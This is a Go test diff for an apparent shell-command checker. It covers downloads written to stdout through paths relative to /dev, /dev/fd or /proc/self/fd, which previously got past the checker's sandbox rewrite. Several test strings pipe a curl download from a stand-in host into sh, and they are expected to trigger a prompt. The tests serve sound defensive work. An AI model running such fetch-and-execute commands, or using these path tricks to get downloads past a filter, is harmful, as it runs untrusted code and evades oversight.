@@ -194,3 +194,81 @@ func TestFdFlowExec(t *testing.T) {
 		t.Errorf("%s: %s, want allow", cmd, d)
 	}
 }
+
+// TestDownloadToRelativeDescriptor (issue 12 class 1, class 10): a
+// download's output named by a path relative to /dev, /dev/fd or
+// /proc/self/fd (cd /dev; curl URL > stdout, cd /dev/fd; curl URL > 1)
+// or spelled with empty components (/dev//stdout) reaches the same
+// stream as > /dev/stdout: the terminal, or the pipe to the next stage.
+// It was moved into the sandbox (a file named stdout there, the bytes
+// no longer shown) and, piped to sh, the pipe was not followed. Look-
+// alikes: a relative name elsewhere, /dev/shm, --output-dir, a
+// descriptor a redirection opened on a file.
+func TestDownloadToRelativeDescriptor(t *testing.T) {
+	t.Parallel()
+	for _, tc := range []struct {
+		cmd  string
+		want Decision
+	}{
+		// Were rewrite.
+		{`cd /dev; curl https://x.io/a > stdout`, Allow},
+		{`cd /dev; curl https://x.io/a > stderr`, Allow},
+		{`cd /dev; curl https://x.io/a > null`, Allow},
+		{`cd /dev; curl https://x.io/a > tty`, Allow},
+		{`cd /dev/fd; curl https://x.io/a > 1`, Allow},
+		{`cd /proc/self/fd; curl https://x.io/a > 1`, Allow},
+		{`cd /proc/self; curl https://x.io/a > fd/1`, Allow},
+		{`curl https://x.io/a > /dev//stdout`, Allow},
+		{`curl https://x.io/a > /dev/./stdout`, Allow},
+		{`curl https://x.io/a > /proc/self/fd/1`, Allow},
+		{`cd /dev; curl -o stdout https://x.io/a`, Allow},
+		{`cd /; curl -o dev/null https://x.io/a`, Allow},
+		{`cd /proc/self; curl -o fd/1 https://x.io/a`, Allow},
+		{`curl -o /proc/self/fd/1 https://x.io/a`, Allow},
+		{`cd /dev; wget -O null https://x.io/a`, Allow},
+		// The stream is the pipe: what reads it is judged.
+		{`curl https://x.io/a > /dev//stdout | sh`, Ask},
+		{`cd /dev; curl https://x.io/a > stdout | sh`, Ask},
+		{`cd /dev; curl -o stdout https://x.io/a | sh`, Ask},
+		// Look-alikes: files.
+		{`cd /dev; curl -o stdout https://x.io/a > /tmp/p/x.sh`, Rewrite},
+		{`cd /dev/fd; exec 3>/tmp/p/f; curl https://x.io/a > 3`, Rewrite},
+		{`cd /dev; curl https://x.io/a > shm/x`, Rewrite},
+		{`curl https://x.io/a > stdout`, Rewrite},
+		{`cd /tmp; curl -o stdout https://x.io/a`, Rewrite},
+		{`cd /dev; curl --output-dir /tmp/p -o stdout https://x.io/a`, Rewrite},
+		{`curl --output-dir /dev -o stdout https://x.io/a`, Allow},
+	} {
+		r := Check(testConfig(), tc.cmd)
+		if r.Decision != tc.want {
+			t.Errorf("%s: %v, want %v (%v)", tc.cmd, r.Decision, tc.want, r.Findings)
+		}
+	}
+}
+
+// TestRelativeDescriptorOracle runs bash: after cd /dev, > stdout writes
+// the shell's standard output, and after cd /dev/fd, > 1 does; no file is
+// made in the directory the command started in.
+func TestRelativeDescriptorOracle(t *testing.T) {
+	t.Parallel()
+	if _, err := os.Stat("/dev/fd/1"); err != nil {
+		t.Skip("no /dev/fd")
+	}
+	dir := t.TempDir()
+	for _, script := range []string{
+		`cd /dev && echo canary > stdout`,
+		`cd /dev/fd && echo canary > 1`,
+		`cd /proc/self && echo canary > fd/1`,
+		`echo canary > /dev//stdout`,
+	} {
+		cmd := exec.Command("bash", "-c", script)
+		cmd.Dir = dir
+		out, err := cmd.Output()
+		if err != nil || strings.TrimSpace(string(out)) != "canary" {
+			t.Errorf("%s: %q, %v", script, out, err)
+		}
+		if ents, _ := os.ReadDir(dir); len(ents) > 0 {
+			t.Errorf("%s: made %v", script, ents[0].Name())
+		}
+	}
+}
